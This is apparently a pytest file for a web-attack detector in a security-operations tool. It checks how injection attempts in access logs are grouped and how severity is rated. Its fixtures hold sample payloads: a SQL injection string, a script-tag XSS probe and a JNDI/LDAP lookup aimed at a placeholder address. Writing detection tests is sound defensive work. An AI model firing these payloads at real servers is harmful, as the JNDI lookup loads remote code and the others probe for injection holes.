"""Attack payloads per source, kind and hour."""

from tests.soc.detectors.streams import every, found

from hodoscope.soc.detectors.examples import Row
from hodoscope.soc.detectors.web_attacks import KEPT_IDS, WebAttacks
from hodoscope.soc.finding import Severity


def request(query: str = "", path: str = "/item", code: int = 200, body: int = 900, source: str = "203.0.113.9") -> Row:
    """One access-log row."""
    return {
        "class_uid": 4002,
        "src_endpoint_ip": source,
        "http_request_url_path": path,
        "http_request_url_query_string": query,
        "http_response_code": code,
        "http_response_body_length": body,
    }


SQLI = "id=1%27%20OR%20%271%27=%271"


def test_one_finding_per_source_and_kind() -> None:
    """Twenty injections of one source are one finding; its scripting is another."""
    findings = found(WebAttacks(), every(5, [request(SQLI)] * 20 + [request("q=<script>alert(1)</script>")]))
    assert {finding.features["category"]: finding.event_count for finding in findings} == {"sqli": 20, "xss": 1}


def test_the_answer_sets_the_severity() -> None:
    """All refused: low; answered: medium; a server error or an unusually large page: high."""
    severities = [
        found(WebAttacks(), every(1, [request(SQLI, code=code, body=body)]))[0].severity
        for code, body in ((404, 900), (200, 900), (500, 900), (200, 5_000_000))
    ]
    assert severities == [Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.HIGH]


def test_values_are_judged_one_by_one() -> None:
    """Parts of different parameters are not added up to an attack."""
    assert not found(WebAttacks(), every(1, [request("a='&b=1=1&c=--")]))


def test_a_query_left_in_the_path_is_judged() -> None:
    """Some servers log path and query together."""
    assert found(WebAttacks(), every(1, [request(path="/item?" + SQLI)]))


def test_a_browsers_user_agent_is_not_an_attack() -> None:
    """Brackets and semicolons are normal there; a lookup is not."""
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120"
    assert not found(WebAttacks(), every(1, [{**request(), "http_request_user_agent": agent}]))
    assert found(WebAttacks(), every(1, [{**request(), "http_request_user_agent": "${jndi:ldap://192.0.2.1/x}"}]))


def test_beyond_the_kept_ids_the_condition_selects_suspect_requests() -> None:
    """Up to 200 requests are named one by one; after that source, time and the prefilter are all SQL can say."""
    (few,) = found(WebAttacks(), every(1, [request(SQLI)] * KEPT_IDS))
    (many,) = found(WebAttacks(), every(1, [request(SQLI)] * (KEPT_IDS + 1)))
    assert few.where.count("unhex") == few.event_count == KEPT_IDS
    assert "unhex" not in many.where
    assert "match(http_request_url_query_string" in many.where
